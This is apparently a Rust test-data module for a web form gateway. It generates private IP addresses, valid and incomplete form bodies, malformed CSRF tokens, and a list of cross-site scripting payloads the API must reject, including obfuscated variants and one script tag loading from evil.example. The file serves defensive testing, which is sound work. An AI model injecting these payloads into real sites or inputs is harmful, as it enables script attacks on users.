// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: PMPL-1.0-or-later

//! Test data generators for attack simulation.

use form_gateway::FormType;
use serde_json::{json, Value};
use std::net::{IpAddr, Ipv4Addr};

/// Generate a pool of IP addresses for testing.
pub fn generate_ips(count: usize) -> Vec<IpAddr> {
    (0..count)
        .map(|i| {
            // Use 10.x.x.x private range
            let a = ((i >> 16) & 0xFF) as u8;
            let b = ((i >> 8) & 0xFF) as u8;
            let c = (i & 0xFF) as u8;
            IpAddr::V4(Ipv4Addr::new(10, a, b, c))
        })
        .collect()
}

/// A complete, valid payload for `form_type`.
pub fn valid_payload(form_type: FormType) -> Value {
    let mut body = json!({
        "formType": form_type.as_str(),
        "timestamp": chrono::Utc::now().timestamp_millis(),
    });
    for field in form_type.required_fields() {
        let value = match *field {
            "email" => "lead@example.com",
            "website" => "https://lead.example.com",
            "message" => "We would like a quote for a site redesign.",
            "company" => "Example Ltd",
            "service" => "seo",
            _ => "Ada Lovelace",
        };
        body[*field] = Value::from(value);
    }
    body
}

/// `valid_payload` with one required field removed.
pub fn payload_without(form_type: FormType, field: &str) -> Value {
    let mut body = valid_payload(form_type);
    if let Some(map) = body.as_object_mut() {
        map.remove(field);
    }
    body
}

/// Markup that must never reach the form API.
pub fn generate_xss_payloads() -> Vec<&'static str> {
    vec![
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<scr<script>ipt>alert(1)</script>",
        "<style>*{display:none}</style>",
        "<!--<script>alert(1)</script>-->",
        "<script>alert(1)",
        "<\u{0000}script>alert(1)</script>",
        "java\u{0000}script:alert(1)",
        "<a href=\"java\tscript:alert(1)\">x</a> java\nscript:alert(2)",
    ]
}

/// Header values that must be rejected as CSRF tokens.
pub fn generate_malformed_tokens() -> Vec<&'static str> {
    vec![
        "",
        "   ",
        "not-a-token",
        "1700000000000",
        "1700000000000.",
        ".abcdef",
        "abc.0000000000000000000000000000000000000000000000000000000000000000",
        "1700000000000.zzzz",
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_generate_ips() {
        let ips = generate_ips(256);
        assert_eq!(ips.len(), 256);
        // All should be unique
        let unique: std::collections::HashSet<_> = ips.iter().collect();
        assert_eq!(unique.len(), 256);
    }

    #[test]
    fn test_payload_without() {
        let body = payload_without(FormType::Contact, "email");
        assert!(body.get("email").is_none());
        assert!(body.get("name").is_some());
    }
}
